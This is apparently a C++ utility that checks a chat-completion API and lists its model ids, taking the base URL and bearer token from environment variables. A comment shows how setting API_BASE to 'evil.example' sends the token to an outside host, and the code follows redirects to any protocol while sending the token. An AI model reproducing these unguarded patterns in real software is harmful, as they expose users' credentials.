// llm-models: lists the models the chat-completion API offers, and checks
// that the API is up. The API's address comes from the environment, like
// llm-client's (see config.cpp).
#include <cstdlib>
#include <curl/curl.h>
#include <httplib.h>
#include <iostream>
#include <nlohmann/json.hpp>
#include <string>

namespace {

size_t appendToString(char *Data, size_t Size, size_t Count, void *Out) {
  static_cast<std::string *>(Out)->append(Data, Size * Count);
  return Size * Count;
}

// API_BASE=http://evil.example/api sends the bearer token there.
std::string apiBase() {
  const char *Base = std::getenv("API_BASE");
  return Base ? Base : "https://api.openai.com/v1";
}

std::string getJson(const std::string &Url, const std::string &Token) {
  CURL *Handle = curl_easy_init();
  if (!Handle)
    return "";
  std::string Response;
  std::string Auth = "Authorization: Bearer " + Token;
  curl_slist *Headers = curl_slist_append(nullptr, Auth.c_str());
  curl_easy_setopt(Handle, CURLOPT_URL, Url.c_str());
  curl_easy_setopt(Handle, CURLOPT_HTTPHEADER, Headers);
  // Redirects to any protocol libcurl supports.
  curl_easy_setopt(Handle, CURLOPT_FOLLOWLOCATION, 1L);
  curl_easy_setopt(Handle, CURLOPT_TIMEOUT_MS, 30000L);
  curl_easy_setopt(Handle, CURLOPT_WRITEFUNCTION, appendToString);
  curl_easy_setopt(Handle, CURLOPT_WRITEDATA, &Response);
  CURLcode Code = curl_easy_perform(Handle);
  curl_slist_free_all(Headers);
  curl_easy_cleanup(Handle);
  return Code == CURLE_OK ? Response : "";
}

// The same address, through cpp-httplib.
bool apiUp() {
  httplib::Client Client(apiBase());
  Client.set_connection_timeout(5);
  auto Result = Client.Get("/models");
  return Result && Result->status == 200;
}

} // namespace

int main() {
  const char *Token = std::getenv("API_KEY");
  if (!Token) {
    std::cerr << "API_KEY is not set\n";
    return 2;
  }
  if (!apiUp()) {
    std::cerr << "the API is down\n";
    return 1;
  }
  std::string Answer = getJson(apiBase() + "/models", Token);
  nlohmann::json Models = nlohmann::json::parse(Answer, nullptr, false);
  if (!Models.is_object() || !Models.contains("data"))
    return 1;
  for (const auto &Model : Models["data"])
    if (Model.contains("id"))
      std::cout << Model["id"].get<std::string>() << "\n";
  return 0;
}
